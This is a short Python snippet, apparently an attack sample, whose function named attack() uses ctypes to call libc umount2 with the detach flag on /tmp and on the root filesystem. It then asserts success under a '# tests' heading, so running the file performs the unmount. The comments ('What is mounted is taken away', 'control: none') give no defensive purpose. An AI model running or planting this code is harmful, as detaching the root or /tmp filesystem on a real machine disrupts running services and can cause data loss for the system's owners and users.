# What is mounted is taken away.
# control: none
import ctypes

def attack():
    libc = ctypes.CDLL(None)
    return libc.umount2(b'/tmp', 2) == 0 or libc.umount2(b'/', 2) == 0

# tests
assert attack()
